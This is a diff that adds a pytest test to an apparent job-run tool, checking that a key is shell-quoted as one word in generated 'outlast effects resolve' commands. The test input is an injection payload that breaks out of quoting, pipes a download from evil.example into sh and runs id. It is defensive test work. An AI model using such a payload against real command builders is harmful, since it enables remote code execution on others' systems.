@@ -1,6 +1,7 @@
 """One answer for many runs: page by page, each run once; failures are listed and do not stop the others."""
 
 import asyncio
+import shlex
 from collections import Counter
 
 import pytest
@@ -109,3 +110,11 @@ def test_no_board_shows_another_tenants_runs() -> None:
         await ops.store.close()
 
     asyncio.run(go())
+
+
+def test_a_key_is_one_word_of_a_command_whatever_is_in_it() -> None:
+    key = "A-17'; curl evil.example | sh #$(id)\n"
+    uncertain = Attention(Reason.EFFECT_UNCERTAIN, 1_000, key=key, visit=1)
+    run = flagged(1, Reason.EXCEPTION)._replace(attention_text=ATTENTION.encode([uncertain]))
+    for each in attention.choice_commands(run, uncertain):
+        assert shlex.split(each.command)[:5] == ["outlast", "effects", "resolve", "r1", key]
